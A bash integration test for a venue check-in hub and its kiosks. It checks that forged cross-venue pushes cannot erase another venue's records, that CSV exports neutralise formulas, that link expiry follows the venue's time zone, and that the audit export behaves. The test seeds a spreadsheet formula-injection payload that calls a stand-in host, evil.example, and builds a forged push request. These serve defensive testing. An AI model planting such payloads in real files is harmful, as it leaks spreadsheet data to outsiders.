#!/usr/bin/env bash
# Records the hub must neither lose nor change:
# - a device of venue A that pushes venue B's next check-in ids first cannot
#   make B's check-ins vanish: B's kiosk keeps them (a dead letter with reason
#   id_conflict, listed by `tingzi sync dead-letters`), never drops them as
#   duplicates; the hub's answer to B's own resend stays "duplicate";
# - the hub's CSV exports neutralise spreadsheet formulas (a member named
#   "=HYPERLINK(...)" reaches the CSV as text);
# - `links add --expires` is read in the venue's zone, not the server's;
# - `audit export` answers with its header and refuses a bad format.
. "$(dirname "$0")/lib.sh"

a=$(hub venues add "Venue A" --tz Asia/Shanghai | grep -oE '[0-9a-f]{32}' | head -n 1)
b=$(hub venues add "Venue B" --tz America/New_York | grep -oE '[0-9a-f]{32}' | head -n 1)
members_csv "$WORK/members.csv" 5
printf '"=HYPERLINK(""http://evil.example/?""&A1;""click"")",13800000099,EVIL1\n' >>"$WORK/members.csv"
printf -- '-2+3,13800000098,EVIL2\n' >>"$WORK/members.csv"
hub members import "$WORK/members.csv" --venue "$a" >/dev/null
hub members import "$WORK/members.csv" --venue "$b" >/dev/null
hub_start
URL="http://127.0.0.1:$PORT"
for k in a b; do
	v=$a
	[ $k = b ] && v=$b
	code=$(hub devices enroll-code "$v" | tail -n 1)
	kiosk "$WORK/$k.db" enroll "$URL" "$code" --name "door $k" >/dev/null || fail "enroll $k"
	kiosk "$WORK/$k.db" sync --once >/dev/null || fail "first sync of $k"
done

# --- venue B's kiosk records two check-ins while offline ---
kiosk "$WORK/b.db" checkin --code M00001 >/dev/null || fail "check-in at B"
kiosk "$WORK/b.db" checkin --code M00002 >/dev/null || fail "second check-in at B"
mapfile -t bids < <(sqlite3 "$WORK/b.db" "SELECT id FROM checkins ORDER BY device_seq")
expect_eq "${#bids[@]}" 2 "check-ins at B"

# --- venue A's device pushes B's first id as its own check-in ---
token=$(sqlite3 "$WORK/a.db" "SELECT value FROM settings WHERE key = 'hub_token'")
dev=$(sqlite3 "$WORK/a.db" "SELECT value FROM settings WHERE key = 'device_id'")
amember=$(sqlite3 "$WORK/a.db" "SELECT uid FROM members WHERE code = 'M00003'")
now=$(($(date +%s) * 1000))
cat >"$WORK/forged.json" <<EOF
{"device_id":"$dev","device_time_ms":$now,"checkins":{"id":["${bids[0]}"],"member":["$amember"],
 "events":[],"event":[-1],"method":["scan"],"wall_ms":[$now],"mono_ms":[1],"boots":["x"],"boot":[0],
 "seq":[1],"visit":[1],"flags":[0],"day":["$(date +%F)"]}}
EOF
st=$(curl -s -o "$WORK/forged.out" -w '%{http_code}' -H "Authorization: Bearer $token" \
	-H 'Content-Type: application/json' --data-binary @"$WORK/forged.json" "$URL/v1/venues/$a/push")
expect_eq "$st" 200 "the forged push is a well-formed request"

# --- B syncs: its first check-in is refused, kept as a dead letter; the second is stored ---
kiosk "$WORK/b.db" sync --once >"$WORK/b-sync.out" || true
kiosk "$WORK/b.db" sync dead-letters >"$WORK/b-dead.out" || fail "sync dead-letters"
grep -q "${bids[0]}.*id_conflict" "$WORK/b-dead.out" ||
	fail "B's clashing check-in is not among its dead letters: $(cat "$WORK/b-dead.out")"
expect_eq "$(sqlite3 "$WORK/b.db" "SELECT count(*) FROM checkins WHERE id = '${bids[0]}'")" 1 \
	"B's clashing check-in still in B's database"
hub checkins export --venue "$b" --format json >"$WORK/b-export.json"
expect_eq "$(jq -r '.[].id' "$WORK/b-export.json")" "${bids[1]}" "B's check-ins at the hub"
grep -q "id_conflict\|1 rejected" "$HUBLOG" || fail "the hub's log does not show the refusal"
hub checkins export --venue "$a" --format json >"$WORK/a-export.json"
expect_eq "$(jq -r '.[0].member' "$WORK/a-export.json")" "$amember" "A's forged check-in stays A's"

# --- CSV exports neutralise formulas ---
kiosk "$WORK/a.db" checkin --code EVIL1 >/dev/null || fail "check-in of EVIL1"
kiosk "$WORK/a.db" checkin --code EVIL2 >/dev/null || fail "check-in of EVIL2"
sync_until_clean "$WORK/a.db"
hub checkins export --venue "$a" --format csv >"$WORK/a.csv"
python3 - "$WORK/a.csv" <<'PY' || fail "the CSV export carries a formula"
import csv, sys
rows = list(csv.DictReader(open(sys.argv[1], encoding="utf-8")))
names = [r["name"] for r in rows]
assert "'=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")" in names, names
assert "'-2+3" in names, names
for r in rows:
    for k, v in r.items():
        if v and v[0] in "=+@" or (v.startswith("-") and not v.lstrip("-").isdigit()):
            raise SystemExit("cell %s=%r starts a formula" % (k, v))
    int(r["offset_ms"])  # numbers stay numbers, negative ones too
PY
kiosk "$WORK/a.db" members list --format csv >"$WORK/kiosk-members.csv"
grep -q "^\"'=HYPERLINK" "$WORK/kiosk-members.csv" || fail "the kiosk's members CSV carries a formula"

# --- links add --expires: the venue's time, whatever the server's zone ---
tomorrow=$(TZ=America/New_York date -d tomorrow +%F)
TZ=Asia/Tokyo hub links add --venue "$b" "https://t.me/+abcdef" --expires "$tomorrow 18:00" >/dev/null ||
	fail "links add"
want=$(TZ=America/New_York date -d "$tomorrow 18:00" +%s)
got=$(hubsql "SELECT expires_ms / 1000 FROM links WHERE venue_id = '$b'")
expect_eq "$got" "$want" "the link's expiry (18:00 in New York)"

# --- audit export ---
hub audit export --venue "$b" >"$WORK/audit.csv" || fail "audit export"
expect_eq "$(head -n 1 "$WORK/audit.csv")" "id,kind,device,session,action,detail,checkin,reason,wall_ms,seq,received_ms" \
	"audit export header"
set +e
hub audit export --venue "$b" --format xml >/dev/null 2>"$WORK/err"
rc=$?
set -e
expect_eq "$rc" 2 "audit export with a bad format"
grep -q "expected csv or json" "$WORK/err" || fail "no sentence for a bad format"
hub_stop
echo "PASS records"
